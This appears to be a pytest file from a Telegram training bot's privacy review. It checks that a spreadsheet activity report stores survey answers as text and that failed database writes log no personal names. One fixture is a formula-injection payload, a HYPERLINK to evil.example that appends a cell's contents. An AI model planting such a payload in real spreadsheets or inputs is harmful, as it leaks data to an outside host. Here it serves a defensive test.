"""The privacy review's findings, each reproduced: what a participant typed never runs in a
spreadsheet, never reaches a log, and does not outlive the retention period or an erasure."""

from __future__ import annotations

import io
import logging
from datetime import datetime

import openpyxl
import pytest
from sqlalchemy.exc import IntegrityError

from bot.db import SessionFactory, create_engine, create_session_factory
from bot.documents.activity_report import activity_report_xlsx
from bot.models import SurveyResponse
from bot.services.activity import activity_report_view
from tests.after_factories import finished_training
from tests.conftest import JAKARTA
from tests.factories import make_participant

PRINTED = datetime(2026, 12, 1, 9, 0, tzinfo=JAKARTA)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


async def test_a_survey_answer_that_looks_like_a_formula_is_text_in_the_report(
    sessions: SessionFactory,
) -> None:
    training, regs = await finished_training(sessions, ["Siti"], [[1]])
    async with sessions() as session:
        session.add(
            SurveyResponse(
                registration_id=regs[0].id, training_id=training.id, overall=5, material=5,
                trainer=5, helped=FORMULA, started_at=PRINTED, finished_at=PRINTED,
                updated_at=PRINTED,
            )
        )  # fmt: skip
        await session.commit()
        view = await activity_report_view(session, training.id, JAKARTA)
    assert view is not None
    book = openpyxl.load_workbook(io.BytesIO(activity_report_xlsx(view)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    quoted = [cell for cell in cells if cell.value == FORMULA]
    assert quoted and all(cell.data_type == "s" for cell in quoted)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


async def test_a_failed_write_logs_no_personal_value(
    db_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    engine = create_engine(db_url, pool_size=1)
    log = logging.getLogger("bot.test.write")
    try:
        async with create_session_factory(engine)() as session:
            for name in ("Siti Rahayu", "Bu Ratna Kusumawardani"):  # one Telegram id twice
                await make_participant(
                    session, 424242, full_name=name, business_name="Warung Ratna Jaya"
                )
    except IntegrityError:
        with caplog.at_level(logging.ERROR):
            log.exception("registration failed")
    finally:
        await engine.dispose()
    assert "IntegrityError" in caplog.text
    # (PostgreSQL's own DETAIL names the duplicate key, the Telegram id; the values are gone.)
    for value in ("Ratna", "Warung"):
        assert value not in caplog.text
